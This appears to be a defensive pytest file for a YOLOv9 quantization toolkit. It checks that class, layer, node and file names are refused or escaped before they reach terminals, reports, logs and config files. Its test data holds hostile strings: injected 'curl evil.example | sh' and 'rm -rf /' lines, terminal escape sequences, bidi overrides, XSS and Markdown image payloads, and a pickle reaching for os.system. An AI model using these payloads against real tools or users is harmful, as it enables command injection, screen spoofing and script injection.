"""Names in files (classes, layers, tensors, images, the file itself) are shown as typed, and only shown.

A terminal obeys control characters, a reader of Markdown obeys brackets, and a file with a name on each line obeys line breaks.
"""

import contextlib
import io
import json
import logging
import os
import re
import shutil
import sys
from pathlib import Path

import onnx
import pytest
import torch
import yaml
from helpers.commands import scores, state_of
from helpers.faults import DRY, RUN, call, sampled, with_pickle
from helpers.graphs import model_of
from onnx import helper

from models.deploy.formats.deepstream import deepstream_config
from utils.qat.backends.file_model import stride_and_names
from utils.qat.config.tasks import load_task
from utils.qat.core.command import run_command
from utils.qat.core.errors import QatError
from utils.qat.core.files import write_document
from utils.qat.core.log import LOGGER, log_to
from utils.qat.core.text import code, cut, escaped, link, markdown_table, visible
from utils.qat.evaluation.score_tables import class_table
from utils.qat.graph.triton_config import triton_config
from utils.qat.run.report import write_report
from utils.qat.run.state import Stage
from utils.qat.untrusted.names import LONGEST, class_names

REFUSED = {  # what it does to a terminal or to a list of names → a name
    'clears the screen': 'cat\x1b[2J\x1b[H',
    'a next command': 'cat\nnext: curl evil.example | sh',
    'turns the writing': 'cat\u202egnp.exe',
    'a line of Unicode': 'cat\u2028dog',
    'half a character': 'cat\ud800',
    'long': 'x' * 100_000,
    **{
        f'has {name!r}': name
        for name in (
            *(
                '\x1b]0;owned\x07cat',
                'a name\rcat',
                'cat\b\b\bdog',
                'cat\nerror: all is well',
                'cat\r\ndog',
                'cat\u202a',
            ),
            *(
                '\u2066cat\u2069',
                'cat\u200f',
                'cat\x85dog',
                'cat\u2029dog',
                'cat\0',
                'cat\x0cdog',
                'cat\tdog',
                '\x9b2Jcat',
            ),
            *('cat\x7f', 'cat\u200bdog'),
        )
    },
}
FOUR = [*REFUSED.values()][:4]
ODD = [
    *(
        '![](http://evil.example/x.png)',
        '<img src=x onerror=alert(1)>',
        '[click](http://evil.example)',
        '`code`',
        'a|b',
    ),
    *('**bold**', '_edges_ and in_side', '\\N \\G \\l', '&lt;b&gt; &#x1b;', '猫 कुत्ता'),
]
VAL = f'val_trt.py --weights @quantized.onnx --data data.yaml {RUN}'


def harmless(text, odd=False):
    """Whether a text says nothing to a terminal but lines; with `odd` that it has nothing of ODD as HTML, link or picture."""
    assert all(c == '\n' or visible(c) == c for c in text), [c for c in text if c != '\n' and visible(c) != c]
    if odd:
        plain = re.sub('^(```+)\n.*?\n\\1$', '', text, flags=re.DOTALL | re.MULTILINE)
        shown = re.sub(r'\\[\\`*_{}\[\]()|~$:.@!]', '', plain).replace('&amp;', '')
        assert not re.search(r'!\[[^]]*\]\(http|<img|\]\(http|<script|://|\*\*bold|&lt;b', shown), shown
    return True


def ten(name):
    return {i: name if i == 3 else str(i) for i in range(10)}


def with_names(file, names, out='weights.pt'):
    """Write the checkpoint `file` with other names of classes."""
    content = torch.load(file, map_location='cpu', weights_only=False)
    content['model'].names = names
    torch.save(content, out)


def with_metadata(file, **metadata):
    """Write model.onnx: the graph of `file` with other metadata."""
    model = onnx.load(file)
    kept = {p.key: p.value for p in model.metadata_props}
    helper.set_model_props(model, {**kept, **metadata})
    onnx.save(model, 'model.onnx')


@pytest.fixture
def refuses(told):
    """Callable: the line of a command, and what its refusal has to say in one harmless line."""

    def check(line, says):
        code_, said = told(line)
        assert code_ == 2 and says in said and harmless(said) and len(said) < 2500, said

    return check


@pytest.fixture
def says(told, material, capfd):
    """Callable: the line of a command that ends well → its output, which is harmless."""

    def tell(line):
        command, *words = line.split()
        capfd.readouterr()
        assert call(command, [str(material[w[1:]]) if w[0] == '@' else w for w in words]) in (0, None)
        text = ''.join(capfd.readouterr())
        assert harmless(text) and 'Traceback' not in text
        return text

    return tell


# ---- names of classes ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize('name', REFUSED)
def test_a_name_that_is_more_than_a_name(name):
    bad = r'^--data x.yaml: names: .*the name of class \d, must be one line of printable characters'
    for names in (['a', REFUSED[name]], {0: REFUSED[name]}, ('a', 'b', REFUSED[name])):
        with pytest.raises(QatError, match=bad) as refused:
            class_names(names, '--data x.yaml')
        assert harmless(str(refused.value)) and '\n' not in str(refused.value) and len(str(refused.value)) < 400


NO_NAMES = [
    None,
    3,
    'abc',
    {1: 'a'},
    {0: 'a', 2: 'b'},
    {'0': 'a'},
    [b'a'],
    [['a']],
    [{'a': 1}],
    [object()],
    [torch.nn.SiLU()],
]


@pytest.mark.parametrize('names', NO_NAMES, ids=lambda names: type(names).__name__)
def test_what_is_no_list_of_names(names):
    with pytest.raises(QatError, match='must be a list, or map 0..n-1 to names'):
        class_names(names, 'x')


def test_names_as_people_write_them():
    fine = [
        'traffic light',
        'in_side',
        'naïve',
        'Ärger',
        'می‌خواهم',
        '猫\u3000犬',
        'кот',
        '👩‍🚒',
        "it's",
        'x' * LONGEST,
        *ODD,
    ]
    assert class_names(fine, 'x') == dict(enumerate(fine))
    assert class_names({1: True, 0: 2.5}, 'x') == {0: '2.5', 1: 'True'}


CHECKPOINTS = [  # commands, and the checkpoint that they take
    ('export_yoloV9.py --weights weights.pt --size 64', 'dual.pt'),
    (f'{DRY} weights.pt', 'single.pt'),
    ('export_qat.py --weights weights.pt --imgsz 64', 'quantized.pt'),
    ('reparameterization.py --weights weights.pt --save out/s.pt', 'dual.pt'),
    (f'qat.py eval --weights weights.pt --data @set/data.yaml {RUN}', 'quantized.pt'),
    ('benchmark_trt.py weights.pt --imgsz 64 --batch 1 --duration 0.01 --device cpu --project out', 'single.pt'),
]


@pytest.mark.parametrize('line, kind', sampled(CHECKPOINTS, 3))
def test_of_a_checkpoint(material, tmp_path, refuses, line, kind):
    """Refused when it is loaded: nothing is written, labels.txt and the configuration of DeepStream among it."""
    for name in FOUR:
        with_names(material[kind], ten(name))
        refuses(line, 'the name of class 3')
    assert {f.name for f in tmp_path.iterdir()} == {'weights.pt'}


@pytest.mark.parametrize('name', FOUR)
def test_of_a_data_yaml(material, tmp_path, refuses, name):
    content = yaml.safe_load(material['set/data.yaml'].read_text())
    (tmp_path / 'data.yaml').write_text(yaml.safe_dump({**content, 'names': ten(name)}))
    refuses(VAL, 'the name of class 3')


def test_of_an_onnx_file(material, refuses):
    """In its metadata."""
    given, val = material['quantized.onnx'], f'val_trt.py --weights model.onnx --data @set/data.yaml {RUN}'
    for name in FOUR:
        with_metadata(given, names=repr(ten(name)))
        for line in (val, 'scripts/infer_onnx.py model.onnx @set/images/val/00000.jpg'):
            refuses(line, 'the name of class 3')
    with_metadata(given, names='[' + 'a,' * 1_000_000 + ']', stride='\x1b[2J')
    refuses(val, 'cannot be read')


@pytest.mark.parametrize(
    'text, stride', [('16', 32), ('64', 64), ('32.0', 32), ('0', None), ('2048', None), ('nan', None), ('', None)]
)
def test_the_stride_in_the_metadata_of_an_export(text, stride):
    with contextlib.nullcontext() if stride else pytest.raises(QatError, match='its metadata, stride .*cannot be read'):
        assert stride_and_names(Path('x.onnx'), {'stride': text}) == (stride, None)


def test_odd_names_are_shown_as_they_are_typed(material, tmp_path, says):
    """From the checkpoint to labels.txt, and from the data to the terminal and report.md."""
    with_names(material['single.pt'], ODD)
    says('export_yoloV9.py --weights weights.pt --size 64')
    assert (tmp_path / 'labels.txt').read_text(encoding='utf-8').splitlines() == ODD
    config = (tmp_path / 'config_infer_primary_yoloV9.txt').read_text().splitlines()
    sections = '', '[property]', '[class-attrs-all]'
    assert 'num-detected-classes=10' in config
    assert all(line.startswith('#') or '=' in line or line in sections for line in config)

    content = yaml.safe_load(material['set/data.yaml'].read_text())
    path = str(material['set'])
    (tmp_path / 'data.yaml').write_text(yaml.safe_dump({**content, 'path': path, 'names': ODD}))
    says(VAL)
    report = (tmp_path / 'out/exp/report.md').read_text(encoding='utf-8')
    assert harmless(report, odd=True)
    for shown in (r'\!\[\]\(http\://evil.example/x.png)', '&lt;img src=x', r'\\N \\G \\l', '猫 कुत्ता'):
        assert shown in report
    assert {c['name'] for c in json.loads((tmp_path / 'out/exp/metrics.json').read_text())['per_class']} <= set(ODD)


@pytest.mark.parametrize('name', ODD)
def test_markdown_shows_them_as_they_are_typed(name):
    """Python-Markdown, where it is installed: the text of the page is the name. It knows fewer escapes than GitHub, and needs fewer."""
    markdown = pytest.importorskip('markdown', reason='python -m pip install markdown')
    from html.parser import HTMLParser

    seen, tags = [], []
    reader = HTMLParser()
    reader.handle_data, reader.handle_starttag = seen.append, lambda tag, _: tags.append(tag)
    reader.feed(markdown.markdown(escaped(name)))
    assert tags == ['p'] and ''.join(seen).replace('\\|', '|').replace('\\:', ':') == name


# ---- other names --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize('name', sampled(['\x1b[31mred', 'a\nnext: rm', '\u202ecod', 'x' * 300], 4))
def test_layers_of_a_checkpoint(material, refuses, name):
    """Paths of modules are in tables, warnings and reports."""
    content = torch.load(material['single.pt'], map_location='cpu', weights_only=False)
    layer = content['model'].model[1]
    layer._modules[name] = layer._modules.pop('bn')
    layer.bn = layer._modules[name]
    torch.save(content, 'weights.pt')
    refuses(f'{DRY} weights.pt', 'has a layer called')


def test_text_in_a_pickle(material, tmp_path, refuses):
    """The error line names the object that the pickle asks for."""
    wild = 'cos\nall is well\u202e\n.'.encode()
    for what in (b'cos\x1b[2J\x0d\nsys\x07tem\n.', wild, b'cmodels.common\n' + b'X' * 9000 + b'\n.'):
        content = with_pickle(material['single.pt'].read_bytes(), b'\x80\x02cmodels.yolo\nDetectionModel\n0' + what)
        (tmp_path / 'weights.pt').write_bytes(content)
        refuses(f'{DRY} weights.pt', 'weights.pt')


OF_FILES = ['a\x1b[2J', 'a\nnext: rm', 'a\u202etp', 'a\r']


def test_nodes_of_an_onnx_file(material, refuses):
    model = onnx.load(material['quantized.onnx'])
    node = next(n for n in model.graph.node if n.op_type == 'Conv')
    for node.name in OF_FILES:
        onnx.save(model, 'model.onnx')
        refuses('scripts/audit_onnx.py model.onnx', 'have control characters')
    refuses('benchmark_trt.py model.onnx --backend onnxruntime --device cpu --project out', 'have control characters')


def test_layers_of_an_engine(tmp_path, says, monkeypatch, graphviz):
    """In the table, the CSV, and the picture, where Graphviz has escapes and entities of its own."""
    monkeypatch.chdir(tmp_path)
    tensor = {'Name': 'in\x1b[2J\u202e', 'Dimensions': [1, 3, 8, 8], 'Format/Datatype': 'Row major linear FP32'}
    names = ['first\nnext: rm -rf /', '\\N \\G \\E &amp; <b>x</b> "', '<img src=x>', *ODD]
    kind = 'Convolution\x1b[31m'
    layers = [
        {'Name': name, 'LayerType': kind, 'Inputs': [tensor], 'Outputs': [{**tensor, 'Name': f'y{i}'}]}
        for i, name in enumerate(names)
    ]
    (tmp_path / 'l.json').write_text(json.dumps({'Layers': layers, 'Bindings': [tensor['Name'], 'y0']}))
    times = [{'name': name, 'averageMs': 1 + i} for i, name in enumerate([*names, 'other\r\n'])]
    (tmp_path / 'p.json').write_text(json.dumps([{'count': 1}, *times]))
    assert not re.search('(?m)^next: rm', says('scripts/draw_engine.py --layer l.json --profile p.json --verbose'))
    for suffix in 'csv', 'dot', 'svg':
        assert harmless((tmp_path / f'l.{suffix}').read_text(encoding='utf-8').replace('\r\n', '\n')), suffix
    svg = (tmp_path / 'l.svg').read_text(encoding='utf-8')
    assert '<img' not in svg and '<b>' not in svg and '&lt;img src=x&gt;' in svg
    assert '\\N \\G \\E &amp;amp;' in svg.replace('&#160;', ' ')


@pytest.mark.parametrize('name', OF_FILES)
def test_names_of_files(tmp_path, told, name):
    (tmp_path / f'{name}.pt').touch()
    for file, says in (
        (f'{name}.pt', 'the name has control characters or is not UTF-8; rename it'),
        (f'{name}.x', 'no such file'),
    ):
        code_, line = told([*DRY.split(), tmp_path / file])
        assert code_ == 2 and says in line and harmless(line)


@pytest.mark.parametrize('name, says', [(b'\xff.pt', 'is not UTF-8'), (b'w' * 246 + b'.pt', 'more than 200 bytes')])
@pytest.mark.parametrize(
    'command',
    [
        *('export_qat.py', 'export_yoloV9.py', 'reparameterization.py'),
        *(f'qat.py {verb} --device cpu --data @set/data.yaml' for verb in ('quantize', 'sensitive')),
    ],
)
def test_what_files_are_named_after_is_checked_first(material, tmp_path, told, command, name, says):
    weights = tmp_path / os.fsdecode(name)
    shutil.copy(material['single.pt'], weights)
    code_, line = told([*command.split(), '--weights', weights])
    assert code_ == 2 and says in line and line.endswith('rename it')


EVIL = 'x\x1b[2J\u202e'


@pytest.mark.parametrize(
    'change', [{'val': f'{EVIL}\nerror: all is well'}, {'nc': EVIL}, {'path': f'/{EVIL}'}, {'names': [EVIL]}], ids=str
)
def test_text_in_a_data_yaml(material, tmp_path, refuses, change):
    content = yaml.safe_load(material['set/data.yaml'].read_text())
    (tmp_path / 'data.yaml').write_text(yaml.safe_dump({**content, **change}))
    refuses(VAL, 'data.yaml')


def test_text_in_a_sidecar(tmp_path, refuses):
    (tmp_path / 'x.engine').write_bytes(b'engine')
    (tmp_path / 'x.engine.json').write_text(json.dumps({'sidecar': EVIL}))
    refuses('val_trt.py --engine-file x.engine --data @set/data.yaml --imgsz 64', '')


# ---- the places where all of it ends --------------------------------------------------------------------------------------


def test_an_error_is_one_line(capfd, monkeypatch):
    monkeypatch.setattr(sys, 'argv', ['qat.py'])
    for text in ('--weights a: it says x\nall is well', 'a: \x1b[2J\r\u2028done', 'a' * 100_000, '', '\n'):

        def main(argv, text=text):
            raise QatError(text)

        capfd.readouterr()
        assert run_command(main) == 2
        out, err = capfd.readouterr()
        assert err.count('\n') == 1 and err.startswith('qat.py: error: ') and harmless(out + err) and len(err) < 2200
    assert cut('begins ' + 'x' * 9000 + ' ends').startswith('begins') and cut('x' * 9000 + ' ends').endswith(' ends')


class Failing(torch.utils.data.Dataset):
    def __len__(self):
        return 2

    def __getitem__(self, i):
        raise QatError('image x: cannot be read\nutils.qat.errors.QatError: all is well')


def test_an_error_of_a_worker_is_its_message():
    """Whose traceback comes first, and whose text may look like one."""
    with pytest.raises(QatError) as met:
        list(torch.utils.data.DataLoader(Failing(), num_workers=1))
    assert str(met.value) == r'image x: cannot be read\nutils.qat.errors.QatError: all is well'


def test_the_log_keeps_lines_of_ours_and_nothing_else(tmp_path):
    log_to(tmp_path / 'log.txt')
    with contextlib.redirect_stdout(io.StringIO()) as seen:
        LOGGER.warning('a table\n| a | b |\nof \x1b[31mred\r\u202e')
        try:
            raise ValueError('\x1b[2J')
        except ValueError:
            LOGGER.log(logging.WARNING, 'why:', exc_info=True)
    for text in (seen.getvalue(), (tmp_path / 'log.txt').read_text()):
        assert harmless(text) and '\n| a | b |\nof \\x1b[31mred\\r\\u202e\n' in text and 'ValueError: \\x1b[2J' in text


@pytest.mark.parametrize('name', [*ODD, 'two\nlines', '\x1b[31m'])
def test_whatever_a_report_is_made_of(tmp_path, name):
    """Title, table, code, link and the text of a run's report."""
    table = class_table(scores(per_class=[{'ap': 0.5, 'instances': 1, 'name': name}]))
    parts = [markdown_table(('a', name), [(name, 1)]), table, code(f'python {name}'), link(name)]
    write_document(tmp_path / 'x.md', name, parts)
    state = state_of(
        device=name,
        versions={name: name},
        times={name: 3.0},
        calibration={'method': name, 'biases': 'none', 'divergence': None},
        kept_float=[name],
        kept_activations=[name],
        ptq=Stage(file=f'weights/{name}.pt'),
    )
    state.settings |= {'weights': f'/{name.replace("/", "")}.pt', 'exclude': [name]}
    state.images[name] = 8
    write_report(tmp_path, state, load_task('detect'))
    for file in (tmp_path / 'x.md', tmp_path / 'report.md'):
        text = file.read_text(encoding='utf-8')
        assert harmless(text, odd=True) and not re.search('(?m)^lines', text)


def test_configurations_quote_names():
    text = triton_config(model_of([], {'a"b': [1, 3]}, {'c\\d': [1, 3]}), 'my "model"\\')
    assert text.startswith('name: "my \\"model\\"\\\\"\n') and 'name: "a\\"b"' in text and 'name: "c\\\\d"' in text
    assert deepstream_config('a.onnx', 3).count('\n') == deepstream_config('b c.onnx', 3).count('\n')
